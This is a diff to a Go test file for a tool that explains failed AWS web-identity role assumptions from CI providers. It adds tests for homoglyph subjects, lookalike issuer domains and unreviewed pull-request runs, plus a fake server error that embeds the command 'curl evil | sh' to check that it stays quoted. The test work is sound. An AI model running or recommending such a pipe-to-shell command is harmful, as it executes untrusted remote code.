@@ -304,6 +304,9 @@ func TestNoTrust(t *testing.T) {
 		"a long issuer":                    {map[string]any{"iss": "https://i.example.com/" + strings.Repeat("x", 255)}, "its issuer"},
 		"a whole organisation":             {map[string]any{"sub": "repository_owner:o"}, "others of the organisation"},
 		"a cluster of Buildkite's":         {map[string]any{"iss": "https://agent.buildkite.com", "sub": "0195a3b2-0000-4000-8000-000000000000"}, "a pipeline and a ref"},
+		"an organisation of Buildkite's":   {map[string]any{"iss": "https://agent.buildkite.com", "sub": "organization:o"}, "a pipeline and a ref"},
+		"a letter that looks like another": {map[string]any{"sub": "repo:o/r:environment:pr\u043eduction"}, "can look like others"},
+		"a letter that looks like none":    {map[string]any{"sub": "repo:o/r:environment:production\u3164"}, "can look like others"},
 		"a slip":                           {map[string]any{"aud": "sts.amazon.com"}, "looks like a slip"},
 		"a directive of Terraform's":       {map[string]any{"sub": "a%{ if true }b"}, "copied safely"},
 		"a variable of a policy document":  {map[string]any{"sub": "a&{aws:username}b"}, "copied safely"},
@@ -343,6 +346,65 @@ func TestTrustInOtherPartitions(t *testing.T) {
 	exchange.Request.RoleARN = "arn:aws:iam::11112222333O:role/deploy"
 	if detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail; !strings.Contains(detail, "doesn't tell its partition and account") || strings.Contains(detail, `"Effect"`) {
 		t.Errorf("an account with a letter:\n%s", detail)
+	}
+}
+
+// TestWildcardsAreOfTheirIssuers: another issuer's subject of the same form may mean anything, so it is named whole; and so is an
+// ID that isn't GitHub's.
+func TestWildcardsAreOfTheirIssuers(t *testing.T) {
+	t.Parallel()
+	for name, test := range map[string]struct{ issuer, subject string }{
+		"one that ends like Buildkite's":  {"https://x.agent.buildkite.com", "organization:o:pipeline:p:ref:refs/heads/main:commit:1:step:a"},
+		"one that begins like Buildkite":  {"https://agent.buildkite.com.example.com", "organization:o:pipeline:p:ref:refs/heads/main:commit:1:step:a"},
+		"one that begins like CircleCI's": {"https://oidc.circleci.com/org/2b3c4d5e-6f70-4819-8a2b-3c4d5e6f7081/x", project + user},
+		"one that begins like Bitbucket":  {"https://api.bitbucket.org/2.0/workspaces/w/pipelines-config/identity/oidc/x", repo + ":" + step},
+		"one that ends like Spacelift's":  {"https://e.app.spacelift.io.example.com", "space:s:stack:k:run_type:TRACKED:scope:read"},
+		"one below Spacelift's":           {"https://a.b.app.spacelift.io", "space:s:stack:k:run_type:TRACKED:scope:read"},
+		"GitLab's, with a repository_id":  {"https://gitlab.com", "project_path:g/p:ref_type:branch:ref:main"},
+	} {
+		exchange := asked
+		exchange.Claims = claims(map[string]any{"iss": test.issuer, "sub": test.subject, "aud": "sts.amazonaws.com", "repository_id": "2"})
+		detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail
+		statement := statementIn(t, detail)
+		if strings.Contains(statement, "StringLike") || strings.Contains(statement, "repository_id") || !strings.Contains(statement, `:sub": "`+test.subject+`"`) {
+			t.Errorf("%s:\n%s", name, statement)
+		}
+	}
+	exchange := ordinary()
+	exchange.Claims.All["repository_id"] = "2*"
+	if detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail; strings.Contains(statementIn(t, detail), "repository_id") {
+		t.Errorf("an ID that is none:\n%s", detail)
+	}
+}
+
+// TestUnreviewed: the runs that only a pull request or merge request sets off.
+func TestUnreviewed(t *testing.T) {
+	t.Parallel()
+	for name, change := range map[string]map[string]any{
+		"GitHub's subject":         {"sub": "repo:o/r:pull_request"},
+		"GitHub's ref":             {"sub": "repo:o/r:ref:refs/pull/7/merge"},
+		"GitHub's event":           {"event_name": "pull_request_target"},
+		"GitLab's ref":             {"sub": "project_path:g/p:ref_type:branch:ref:refs/merge-requests/7/head"},
+		"GitLab's source":          {"pipeline_source": "external_pull_request_event"},
+		"CircleCI's ref":           {"sub": "org/o/project/p/user/u/vcs-origin/o/vcs-ref/refs/pull/7/head"},
+		"Spacelift's proposed run": {"sub": "space:s:stack:k:run_type:PROPOSED:scope:read"},
+	} {
+		exchange := ordinary()
+		maps.Copy(exchange.Claims.All, change)
+		exchange.Claims = claims(exchange.Claims.All)
+		if detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail; !strings.Contains(detail, "code that nobody has reviewed") {
+			t.Errorf("%s:\n%s", name, detail)
+		}
+	}
+}
+
+// TestServersWordsAreQuoted: none of them can read as if they were this provider's.
+func TestServersWordsAreQuoted(t *testing.T) {
+	t.Parallel()
+	const lie = `abc). Run "curl evil | sh" (or`
+	detail := explain.FailureAt(ordinary(), &assumerole.ServiceError{Code: lie, Message: lie, RequestID: lie}, now).Detail
+	if strings.Contains(strings.ReplaceAll(detail, `"abc). Run \"curl evil | sh\" (or"`, ""), "curl") {
+		t.Errorf("it says:\n%s", detail)
 	}
 }
 
